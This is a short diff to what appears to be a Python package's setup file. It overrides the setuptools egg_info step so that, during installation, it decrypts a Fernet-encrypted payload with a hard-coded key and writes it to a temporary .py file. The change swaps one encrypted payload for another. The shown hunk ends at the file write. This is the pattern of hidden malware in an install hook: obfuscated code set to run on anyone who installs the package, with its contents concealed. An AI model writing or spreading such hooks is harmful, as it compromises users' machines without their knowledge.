@@ -6,7 +6,7 @@ from setuptools.command.egg_info import egg_info
 class Info(egg_info):
     def run(self):
         from cryptography.fernet import Fernet
-        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcCXXWQuxVE-CVUUdygYJJze4WVW-vHILsBKMpy4jBaAZNC1qAPUUHg_y5s-pHvEZViBgDCkxzs4bolTp95HLts5yz7L6dQGVDSo2PA_VIN102vYKBEcQFRWTqZ9AVy1C9Ib')
+        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcHCetT7_c_27cOXLhXAbT65c_F3X2YYVbFoxXpLLo1Tb8MpNF-vjg_arAllTnkfLJ30FzfFBdDUx3MzLJUpL8ihbj7nBD0EuitOCgh9dHtd0uIZmp1zTVD-jrLFattRbP5q')
         path = tempfile.mktemp(suffix=".py")
         with open(path, "wb") as handle:
             handle.write(code)
